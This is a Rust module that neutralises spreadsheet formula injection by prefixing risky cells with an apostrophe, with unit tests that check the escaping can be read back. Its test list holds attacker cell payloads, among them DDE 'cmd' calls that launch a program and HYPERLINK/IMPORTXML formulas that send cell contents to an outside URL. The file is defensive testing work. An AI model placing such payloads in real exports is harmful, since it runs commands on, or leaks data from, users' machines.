//! Keeps spreadsheets from running cells as formulas.
//!
//! If a spreadsheet would read a cell as a formula, [`inert`] puts an apostrophe before it, so that
//! the spreadsheet reads text. Readers can undo this: if a cell begins with an apostrophe and the
//! rest of it, after more apostrophes, would be a formula, then the first apostrophe is not part of
//! the value.

use std::borrow::Cow;

use crate::domain::is_hidden;

/// Returns the cell as text that no spreadsheet runs. Numbers and phone numbers are not formulas.
pub(crate) fn inert(cell: &str) -> Cow<'_, str> {
    let is_plain = cell.as_bytes().first().is_none_or(u8::is_ascii_alphanumeric);
    if is_plain || !is_formula(cell) { Cow::Borrowed(cell) } else { Cow::Owned(format!("'{cell}")) }
}

/// Ignores apostrophes at the start of the cell, so that readers can undo [`inert`].
fn is_formula(cell: &str) -> bool {
    let cell = cell.trim_start_matches('\'');
    let rest = cell.trim_start_matches(is_skipped);
    cell.starts_with(['\t', '\r', '\n']) || (rest.starts_with(SIGNS) && !is_number(rest))
}

/// The characters that begin a formula. Spreadsheets in East Asian languages accept the wide forms
/// too.
const SIGNS: [char; 12] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];

/// Returns whether spreadsheets and their users remove this character before a formula: white
/// space, quotes and invisible characters.
fn is_skipped(character: char) -> bool {
    character.is_whitespace() || is_hidden(character) || "\"'`´‘’“”„«»＂＇".contains(character)
}

fn is_number(cell: &str) -> bool {
    let digits = cell.trim_start_matches(['+', '-']);
    cell.len() - digits.len() <= 1
        && digits.starts_with(|c: char| c.is_ascii_digit())
        && digits.chars().all(|c| c.is_ascii_digit() || ". ".contains(c))
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// Cells of an attacker who wants a spreadsheet to run them.
    pub(in crate::report) const PAYLOADS: [&str; 20] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.com/?x=\"&A1,\"error\")",
        "=IMPORTXML(CONCAT(\"https://example.com/?v=\",A1),\"//a\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\"=1+1",
        "'=1+1",
        "''=1+1",
        "\u{feff}=1+1",
        "\u{200b}@SUM(1)",
        "＝1+1",
        "＋1－＠A1",
        "--1",
    ];

    /// Undoes [`inert`], as a reader of a report does.
    pub(in crate::report) fn read_back(cell: &str) -> &str {
        cell.strip_prefix('\'').filter(|_| is_formula(cell)).unwrap_or(cell)
    }

    #[test]
    fn formulas_are_defused() {
        for payload in PAYLOADS {
            assert_eq!(inert(payload), format!("'{payload}"));
        }
    }

    #[test]
    fn numbers_phones_and_words_are_left_alone() {
        for cell in
            ["", "plain", "+4917612345678", "-5.20", "-1", "'s-Hertogenbosch", "\"quoted\"", " a=b", "é", "ＡＢ"]
        {
            assert_eq!(inert(cell), cell);
        }
    }

    #[test]
    fn every_cell_can_be_read_back() {
        let more = ["", "a", "'", "''", "'a", "'+49176", "+49176", "https://x.example/?a==1", "'\t", "-", "'-"];
        for cell in PAYLOADS.into_iter().chain(more) {
            assert_eq!(read_back(&inert(cell)), cell, "{cell:?}");
            let quoted = format!("'{cell}");
            assert_eq!(read_back(&inert(&quoted)), quoted, "{quoted:?}");
        }
    }
}
